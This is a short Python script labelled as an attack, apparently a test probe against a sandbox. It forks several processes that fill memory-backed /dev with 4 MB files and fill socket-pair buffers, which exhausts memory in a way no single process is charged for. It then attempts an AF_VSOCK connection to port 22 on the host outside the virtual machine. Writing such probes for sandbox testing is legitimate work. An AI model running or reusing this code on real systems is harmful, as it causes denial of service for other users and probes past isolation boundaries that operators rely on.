# attack: memory that no process is seen to hold: /dev, sockets of several processes, large buffers
import os
import socket

for _ in range(5):
    if os.fork() == 0:
        break
try:
    for i in range(10_000):
        with open(f"/dev/full-{os.getpid()}-{i}", "wb") as file:
            file.write(b"x" * 2**22)
except OSError:
    pass
kept = []
try:
    while True:
        a, b = socket.socketpair()
        a.setblocking(False)
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
        kept += [a, b]
        try:
            while True:
                a.send(b"x" * 65536)
        except BlockingIOError:
            pass
except OSError:
    pass
try:
    socket.socket(40, socket.SOCK_STREAM).connect((2, 22))  # AF_VSOCK: the machine around this one
except OSError:
    pass
